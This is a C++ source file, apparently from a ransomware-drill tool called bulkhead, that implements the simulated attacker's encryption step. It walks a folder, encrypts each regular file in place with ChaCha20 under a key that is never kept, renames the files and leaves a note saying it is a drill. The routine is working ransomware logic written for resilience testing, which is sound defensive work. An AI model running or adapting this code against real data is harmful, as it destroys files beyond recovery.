#include "cli/drill/attacker/encryption.h"

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <thread>

#include <fcntl.h>
#include <fmt/format.h>
#include <linux/openat2.h>
#include <sodium.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

namespace bulkhead::cli::drill::attacker {
namespace {

constexpr std::size_t kPieceBytes = 256 << 10;
static_assert(kPieceBytes % 64 == 0, "a ChaCha20 block");

constexpr std::string_view kNote =
    "This is a drill. The files of this dataset were encrypted by bulkhead-drill-attacker, in a\n"
    "compartment, in an estate that the drill made. Nobody has the key; the clean copy is in the\n"
    "vault.\n";

Result<FileDescriptor> open_beneath(int top, const Path& relative, std::uint64_t flags) {
  open_how how{};
  how.flags = flags | O_CLOEXEC | O_NOFOLLOW;
  how.mode = (flags & O_CREAT) != 0 ? 0600 : 0;
  how.resolve = RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS | RESOLVE_NO_XDEV;
  const long fd = ::syscall(SYS_openat2, top, relative.c_str(), &how, sizeof how);
  if (fd < 0) return fail_errno(errno, fmt::format("opening {}", relative.native()));
  return FileDescriptor(static_cast<int>(fd));
}

}  // namespace

Result<Encryption> Encryption::create(const Path& folder, std::vector<std::string> keep, Pace pace,
                                      Random& random) {
  if (sodium_init() < 0) return fail(ErrorKind::internal, "libsodium does not start");
  Encryption encryption;
  encryption.top_ = TRY(open_file(folder, O_RDONLY | O_DIRECTORY | O_NOFOLLOW));
  encryption.folder_ = folder;
  encryption.keep_ = std::move(keep);
  encryption.pace_ = pace;
  encryption.key_ = random.bytes(crypto_stream_chacha20_KEYBYTES);
  return encryption;
}

bool Encryption::is_kept(const Path& relative) const {
  const std::string& name = relative.native();
  return std::ranges::find(keep_, name) != keep_.end() || name == kNoteName ||
         name.ends_with(kLockedSuffix);
}

Result<std::uint64_t> Encryption::encrypt(const Path& relative) {
  const FileDescriptor file = TRY(open_beneath(top_.get(), relative, O_RDWR));
  unsigned char nonce[crypto_stream_chacha20_NONCEBYTES] = {};
  ++nonce_;
  std::memcpy(nonce, &nonce_, sizeof nonce);
  Bytes piece(kPieceBytes);
  std::uint64_t at = 0;
  while (true) {
    const ssize_t got = ::pread(file.get(), piece.data(), piece.size(), static_cast<off_t>(at));
    if (got < 0) return fail_errno(errno, "reading");
    if (got == 0) break;
    const auto size = static_cast<std::size_t>(got);
    crypto_stream_chacha20_xor_ic(piece.data(), piece.data(), size, nonce, at / 64, key_.data());
    if (::pwrite(file.get(), piece.data(), size, static_cast<off_t>(at)) != got) {
      return fail_errno(errno, "writing");
    }
    at += size;
    if (size % 64 != 0) break;  // the end; a torn read in the middle would repeat key stream
  }
  // A symbolic link in a parent would have been refused above; renaming does not follow the last.
  const Path locked = relative.native() + std::string(kLockedSuffix);
  if (::renameat(top_.get(), relative.c_str(), top_.get(), locked.c_str()) != 0) {
    return fail_errno(errno, "renaming");
  }
  return at;
}

void Encryption::keep_pace(const Damage& damage,
                           std::chrono::steady_clock::time_point start) const {
  const auto microseconds = [](std::uint64_t amount, std::uint64_t per_second) {
    return std::chrono::microseconds(amount * 1'000'000 / std::max<std::uint64_t>(per_second, 1));
  };
  std::this_thread::sleep_until(start +
                                std::max(microseconds(damage.files, pace_.files_per_second),
                                         microseconds(damage.bytes, pace_.bytes_per_second)));
}

Damage Encryption::run(const std::function<void(const Damage&)>& progress) {
  Damage damage;
  const auto start = std::chrono::steady_clock::now();
  // Listed first, so that what is renamed is not met again.
  std::vector<Path> files;
  std::error_code error;
  for (std::filesystem::recursive_directory_iterator
           at(folder_, std::filesystem::directory_options::skip_permission_denied, error),
       end;
       !error && at != end; at.increment(error)) {
    std::error_code ignored;
    const Path relative = at->path().lexically_relative(folder_);
    if (at->symlink_status(ignored).type() == std::filesystem::file_type::regular &&
        !is_kept(relative)) {
      files.push_back(relative);
    }
  }
  for (const Path& file : files) {
    const auto bytes = encrypt(file);
    if (bytes) {
      ++damage.files;
      damage.bytes += *bytes;
    } else {
      ++damage.failures;
    }
    progress(damage);
    keep_pace(damage, start);
  }
  if (const auto note = open_beneath(top_.get(), kNoteName, O_WRONLY | O_CREAT | O_TRUNC)) {
    (void)write_all(note->get(), as_bytes(kNote));
  }
  return damage;
}

}  // namespace bulkhead::cli::drill::attacker
